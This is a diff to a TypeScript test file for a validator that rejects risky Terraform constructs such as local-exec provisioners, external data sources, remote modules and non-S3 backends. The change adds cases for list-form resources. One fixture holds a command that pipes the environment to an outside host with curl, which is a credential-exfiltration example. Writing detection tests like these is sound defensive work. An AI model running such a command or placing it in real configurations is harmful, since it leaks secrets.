@@ -57,8 +57,19 @@ test.each<[string, (s: Stack) => void, string]>([
   [
     'a local-exec provisioner',
     (s) => ((s.resource as Stack).terraform_data = { run: { provisioner: [{ 'local-exec': { command: 'env | curl -d @- example.com' } }] } }),
-    'terraform_data.run has a provisioner',
+    'resource.terraform_data.run has a provisioner',
   ],
+  [
+    'a provisioner in a resource written as a list',
+    (s) => ((s.resource as Stack).terraform_data = { run: [{ provisioner: { 'local-exec': { command: 'env' } } }] }),
+    'resource.terraform_data.run.0 has a provisioner',
+  ],
+  [
+    'a provisioner in a resource block written as a list',
+    (s) => (s.resource = [{ terraform_data: { run: { provisioner: { 'local-exec': { command: 'env' } } } } }]),
+    'resource.0.terraform_data.run has a provisioner',
+  ],
+  ['an external data source written as a list', (s) => (s.data = [{ external: { run: { program: ['sh'] } } }]), 'data source "external" runs a program'],
   ['an external data source', (s) => ((s.data as Stack).external = { run: { program: ['sh', '-c', 'env'] } }), 'data source "external" runs a program'],
   ['a module', (s) => (s.module = { remote: { source: 'git::https://example.com/x.git' } }), 'module remote is not allowed'],
   ['another backend', (s) => ((s.terraform as Stack).backend = { http: { address: 'https://example.com/state' } }), 'backend http is not the S3 state backend'],
